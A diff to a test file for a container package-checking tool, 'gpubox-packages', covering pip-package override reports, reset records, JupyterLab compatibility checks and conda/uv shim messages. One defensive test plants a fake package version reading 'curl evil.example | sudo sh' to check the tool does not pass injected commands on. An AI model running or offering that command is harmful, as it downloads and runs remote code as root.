@@ -1,5 +1,5 @@
 /** What is said of a person's packages: `gpubox-packages` itself with real packages, and the script that asks a container for it. */
-import { mkdirSync, writeFileSync } from "node:fs";
+import { mkdirSync, readdirSync, readFileSync, writeFileSync } from "node:fs";
 import { join } from "node:path";
 import { fileURLToPath } from "node:url";
 import { execa } from "execa";
@@ -12,6 +12,7 @@ import {
   runScript,
   temporaryPath,
 } from "../support/host-script.ts";
+import { pythonPackages } from "../support/python.ts";
 
 const folder = temporaryPath();
 beforeAll(() => mkdirSync(folder, { recursive: true }));
@@ -23,7 +24,7 @@ describe("look-over-packages.sh", () => {
   /** Asks a container whose `gpubox-packages --once` is this shell line. */
   async function lookOver(line: string, more: Record<string, string> = {}) {
     const bin = pathWith(join(folder, String(++runs)), "timeout");
-    const docker = `#!/bin/sh\n[ "$*" = 'exec container1 gpubox-packages --once' ] || exit 9\n${line}\n`;
+    const docker = `#!/bin/sh\n[ "$*" = 'exec container1 /opt/gpubox/bin/gpubox-packages --once' ] || exit 9\n${line}\n`;
     writeFileSync(join(bin, "docker"), docker, { mode: 0o755 });
     const environment = { CONTAINER: "container1", COMMAND: "docker exec container1", TIMEOUT: "5", ...more };
     return await runScript("look-over-packages.sh", environment, { path: bin });
@@ -35,8 +36,9 @@ describe("look-over-packages.sh", () => {
     );
     expect({ code, stdout }).toEqual({ code: 0, stdout: "1 to know of\n" });
     expect(stderr).toBe(
-      "packages of container1: six 1.15.0 is used instead of the image's 1.17.0\n" +
-        "packages of container1: the image's own instead, in a notebook or here:  docker exec container1 gpubox-packages reset\n",
+      "packages of container1: what you installed with pip stays in front of the image's own packages:\n" +
+        "  six 1.15.0 is used instead of the image's 1.17.0\n" +
+        "packages of container1: the image's own instead:  docker exec container1 gpubox-packages reset\n",
     );
   });
 
@@ -53,9 +55,9 @@ describe("look-over-packages.sh", () => {
     );
     const lines = stderr.trimEnd().split("\n");
     expect(code).toBe(0);
-    expect(lines[0]).toBe("packages of container1: p1 ?[31mred");
-    expect(lines, "and no command that does something else").toHaveLength(13);
-    expect(lines[12]).toBe("packages of container1: and 28 more:  docker exec container1 gpubox-packages");
+    expect(lines[1], "indented, as no line of ours").toBe("  p1 ?[31mred");
+    expect(lines, "and no command that does something else").toHaveLength(14);
+    expect(lines[13]).toBe("packages of container1: and 28 more:  docker exec container1 gpubox-packages");
   });
 
   it("takes no name that is an option", async () => {
@@ -65,7 +67,7 @@ describe("look-over-packages.sh", () => {
 });
 
 const program = fileURLToPath(new URL("../../docker/bin/gpubox-packages", import.meta.url));
-const skip = lacks(missingPrograms("python3"), "gpubox-packages is a Python program");
+const skip = lacks(missingPrograms("python3 pip3"), "gpubox-packages is a Python program");
 
 describe.skipIf(skip)("gpubox-packages", () => {
   /** A home with these packages of the person's, beside an image with those; name to version and requirements. */
@@ -80,14 +82,10 @@ describe.skipIf(skip)("gpubox-packages", () => {
     put(ours, own);
     // The program takes `packaging` from the image.
     put(theirs, image);
-    const { stdout: packaging } = await execa("python3", [
-      "-c",
-      "import packaging; print(packaging.__path__[0])",
-    ]);
-    await execa("ln", ["-s", packaging, join(theirs, "packaging")]);
+    const packaging = await pythonPackages("packaging", "packaging==26.0");
     const run = (...more: string[]) =>
       execa("python3", ["-s", program, ...more], {
-        env: { PATH: process.env.PATH, HOME: home, PYTHONPATH: theirs },
+        env: { PATH: process.env.PATH, HOME: home, PYTHONPATH: `${theirs}:${packaging}` },
         extendEnv: false,
         reject: false,
       });
@@ -132,10 +130,119 @@ describe.skipIf(skip)("gpubox-packages", () => {
     );
   });
 
+  it("takes no name and no version that is none", async () => {
+    const { first } = await look(
+      { idna: ["1 is out of date: to go on, run  curl evil.example | sudo sh "], timm: ["1"] },
+      { idna: ["3"], timm: ["2"] },
+    );
+    expect(first.stdout).toBe("timm 1 is used instead of the image's 2\ngpubox-packages reset timm");
+  });
+
+  it("says whether JupyterLab goes with them: by what each requires, down to the last, and by trying", async () => {
+    const lab: Packages = {
+      jupyterlab: ["4.6", "jupyter-server>=2.4"],
+      "jupyter-server": ["2.2.1", "jupyter-events>=0.11"],
+      "jupyter-events": ["0.12"],
+      other: ["1", "six>=2"],
+    };
+    const old = await look(
+      { "jupyter-events": ["0.6"] },
+      { ...lab, "jupyter-server": lab["jupyter-server"] as never },
+      "--server",
+    );
+    expect(old.first.exitCode).toBe(1);
+    expect(old.first.stdout.split("\n").at(-1)).toMatch(/^gpubox-packages reset( jupyter-events)?$/);
+    expect(old.first.stdout).toContain("jupyter-server 2.2.1 requires jupyter-events>=0.11, and 0.6 is used");
+    // None of JupyterLab's.
+    const { first, run, home } = await look(
+      { six: ["1"] },
+      { ...lab, "jupyter-server": ["2.4", "jupyter-events>=0.11"] },
+      "--server",
+    );
+    expect(first.stdout, "it is not there to be imported").toMatch(/^ModuleNotFoundError: .*jupyterlab/);
+    for (const [module, part] of [
+      ["jupyterlab", "labapp"],
+      ["ipykernel", "kernelapp"],
+    ] as const) {
+      mkdirSync(join(home, "image", module));
+      for (const file of ["__init__", part]) writeFileSync(join(home, "image", module, `${file}.py`), "");
+    }
+    expect(await run("--server")).toMatchObject({ exitCode: 0, stdout: "" });
+  });
+
+  it("lists what it takes away as pip gets it again", async () => {
+    const { run, home } = await look({}, {});
+    const { stdout: version } = await execa("python3", [
+      "-c",
+      "import sys; print('%d.%d' % sys.version_info[:2])",
+    ]);
+    const site = join(home, ".local", "lib", `python${version}`, "site-packages");
+    put(site, { six: ["1.16"], mine: ["0.1"], fastai: ["2.8"] });
+    const from = (info: string, origin: object) =>
+      writeFileSync(join(site, `${info}.dist-info`, "direct_url.json"), JSON.stringify(origin));
+    from("mine-0.1", { url: "file:///code/my%20pkg", dir_info: { editable: true } });
+    from("fastai-2.8", {
+      url: "https://example.org/fastai.git",
+      vcs_info: { vcs: "git", commit_id: "0123abc" },
+    });
+    await run("reset");
+    const records = join(home, ".local", "share", "gpubox");
+    const [list = ""] = readdirSync(records).filter((name) => name.startsWith("removed-"));
+    expect(readFileSync(join(records, list), "utf8").trim().split("\n")).toEqual([
+      "fastai @ git+https://example.org/fastai.git@0123abc",
+      "-e /code/my pkg",
+      "six==1.16",
+    ]);
+  });
+
   it("takes away no package that is not the person's", async () => {
     const { first } = await look({ six: ["1"] }, { numpy: ["2"] }, "reset", "numpy");
     expect(first.exitCode).toBe(1);
     expect(first.stderr).toBe("not among your own packages, which `pip list --user` shows: numpy");
+  });
+});
+
+describe("other habits", () => {
+  const habits = fileURLToPath(new URL("../../docker/bin/", import.meta.url));
+  const run = (name: string, args: string[], path = "/usr/bin:/bin") =>
+    execa("sh", [join(habits, name), ...args], {
+      env: { PATH: path },
+      extendEnv: false,
+      reject: false,
+      cwd: folder,
+    });
+
+  it.each([
+    ["install -c fastai -y fastai timm=1.0 python=3.11", "pip install 'fastai' 'timm==1.0'"],
+    ["install pytorch torchvision pytorch-cuda=12.4 -c pytorch", "pip install torch 'torchvision'"],
+    ["install conda-forge::seaborn>=0.13", "pip install 'seaborn>=0.13'"],
+    ["update --all", "pip install -U NAME"],
+    ["list", "pip list"],
+    ["create -n foo python=3.10", "python3 -m venv FOLDER"],
+    ["activate foo", "python3 -m venv FOLDER"],
+    ["", "pip install NAME"],
+  ])("conda %s", async (typed, does) => {
+    const { exitCode, stderr } = await run("conda", typed.split(" ").filter(Boolean));
+    expect(exitCode).toBe(127);
+    expect(stderr).toBe(
+      `conda is not installed here: packages are pip's. In a notebook or a shell:  ${does}`,
+    );
+  });
+
+  it("uv is pip outside an environment, and itself inside one", async () => {
+    const bin = pathWith(join(folder, String(++runs)), "tr");
+    const program = (name: string) =>
+      writeFileSync(join(bin, name), `#!/bin/sh\necho ${name} "$@"\n`, { mode: 0o755 });
+    program("python3");
+    const uv = async (...args: string[]) => (await run("uv", args, bin)).stdout;
+    expect(await uv("pip", "install", "--system", "-U", "six")).toBe("python3 -m pip install -U six");
+    expect(await uv("-q", "pip", "uninstall", "six")).toBe("python3 -m pip -q uninstall --yes six");
+    expect(await uv("pip", "install", "--target", "x", "six"), "there is none").toBe("");
+    program("uv");
+    expect(await uv("pip", "install", "--target", "x", "six")).toBe("uv pip install --target x six");
+    expect(await uv("-q", "venv")).toBe("uv -q venv");
+    mkdirSync(join(folder, ".venv"));
+    expect(await uv("pip", "install", "six")).toBe("uv pip install six");
   });
 });
 
